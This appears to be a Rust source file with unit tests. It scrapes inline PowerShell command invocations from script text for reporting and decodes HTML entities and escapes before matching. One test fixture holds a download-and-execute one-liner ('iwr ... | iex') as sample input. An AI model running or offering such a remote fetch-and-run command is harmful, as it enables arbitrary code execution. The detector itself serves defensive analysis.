//! Collects inline PowerShell invocations from script text.
//!
//! A hit looks like `powershell <args> -<flag…> Q <payload> Q`, where `Q` is
//! one of `` ` ``, `'` or `"`. The opening `Q` sits on the same line as the
//! flag. The payload may span lines and runs to the next `Q` of the same
//! kind. The scrape is purely for reporting.

use once_cell::sync::Lazy;
use regex::Regex;

static INVOCATION_HEAD: Lazy<Regex> = Lazy::new(|| Regex::new(r"(?i)powershell\s+").unwrap());

const QUOTES: [u8; 3] = [b'`', b'"', b'\''];
// bytes that end the argument run before the flag
const ARG_TERMINATORS: [u8; 8] = [b'`', b'"', b'\'', b'(', b')', b'{', b'}', b';'];

/// Undoes HTML entity and backslash escaping so commands embedded in string
/// literals read as they would on a command line.
pub fn normalize(text: &str) -> String {
    text.replace("&gt;", ">")
        .replace("&lt;", "<")
        .replace("&amp;", "&")
        .replace("\\/", "/")
        .replace("\\\"", "\"")
        .replace("\\'", "'")
        .replace("\\\\", "\\")
}

pub fn scrape(text: &str) -> Vec<String> {
    let normalized = normalize(text);
    let bytes = normalized.as_bytes();
    let mut commands = Vec::new();
    let mut from = 0;
    // heads starting before this offset share an argument run that already failed
    let mut dead_until = 0;

    while let Some(head) = INVOCATION_HEAD.find_at(&normalized, from) {
        from = head.start() + 1;
        if head.start() < dead_until {
            continue;
        }
        let args_end = bytes[head.end()..]
            .iter()
            .position(|b| ARG_TERMINATORS.contains(b))
            .map_or(bytes.len(), |i| head.end() + i);

        match match_flags(bytes, head.end(), args_end) {
            Some(end) => {
                commands.push(normalized[head.start()..=end].trim().to_string());
                from = end + 1;
            }
            None => dead_until = args_end,
        }
    }

    commands
}

// Each `-` in the argument run may start the flag. Flags on the same line
// share their candidate quotes, so only the first per line is tried.
fn match_flags(bytes: &[u8], from: usize, to: usize) -> Option<usize> {
    let mut tried_until = from;
    for dash in (from..to).filter(|&i| bytes[i] == b'-') {
        if dash < tried_until {
            continue;
        }
        tried_until = line_end(bytes, dash);
        if let Some(end) = closing_quote(bytes, dash + 1) {
            return Some(end);
        }
    }
    None
}

fn line_end(bytes: &[u8], from: usize) -> usize {
    bytes[from..]
        .iter()
        .position(|b| *b == b'\n')
        .map_or(bytes.len(), |i| from + i)
}

// Tries each quote on the rest of the line as the opener and returns the
// index of the first matching closer.
fn closing_quote(bytes: &[u8], from: usize) -> Option<usize> {
    (from..line_end(bytes, from))
        .filter(|&open| QUOTES.contains(&bytes[open]))
        .find_map(|open| {
            bytes[open + 1..]
                .iter()
                .position(|b| *b == bytes[open])
                .map(|i| open + 1 + i)
        })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn escaped_command_in_a_string_literal() {
        let source = r#"var c = "powershell -Command \"Get-Process\"";"#;
        assert_eq!(scrape(source), vec![r#"powershell -Command "Get-Process""#]);
    }

    #[test]
    fn case_insensitive_and_single_quoted() {
        let source = "run('PowerShell -NoProfile -c 'iwr http://x/y.ps1 | iex'')";
        let found = scrape(source);
        assert_eq!(found.len(), 1);
        assert!(found[0].starts_with("PowerShell -NoProfile"));
    }

    #[test]
    fn html_entities_are_decoded_first() {
        let source = "powershell -enc &quot;x&quot; -c \"a &gt; b.txt\"";
        assert_eq!(scrape(source), vec!["powershell -enc &quot;x&quot; -c \"a > b.txt\""]);
    }

    #[test]
    fn no_flag_means_no_match() {
        assert!(scrape("powershell \"Get-Process\"").is_empty());
        assert!(scrape("nothing to see here").is_empty());
    }

    #[test]
    fn payload_may_span_lines() {
        let source = "powershell -Command `line one\nline two` rest";
        assert_eq!(scrape(source), vec!["powershell -Command `line one\nline two`"]);
    }

    #[test]
    fn argument_run_may_reach_a_later_line() {
        let source = "powershell -x\n -c 'ok'";
        assert_eq!(scrape(source), vec!["powershell -x\n -c 'ok'"]);
    }

    #[test]
    fn flag_may_reach_a_quote_past_a_semicolon() {
        let source = format!("{}; powershell -c 'ok'", "powershell -x ".repeat(3));
        assert_eq!(scrape(&source), vec![source.clone()]);
    }

    #[test]
    fn unclosed_heads_are_skipped() {
        let source = format!("{}(\npowershell -c 'ok'", "powershell -x ".repeat(50));
        assert_eq!(scrape(&source), vec!["powershell -c 'ok'"]);
    }

    #[test]
    fn multiple_commands_in_order() {
        let source = "a('powershell -c \"one\"'); b('powershell -c \"two\"');";
        assert_eq!(
            scrape(source),
            vec!["powershell -c \"one\"", "powershell -c \"two\""]
        );
    }
}
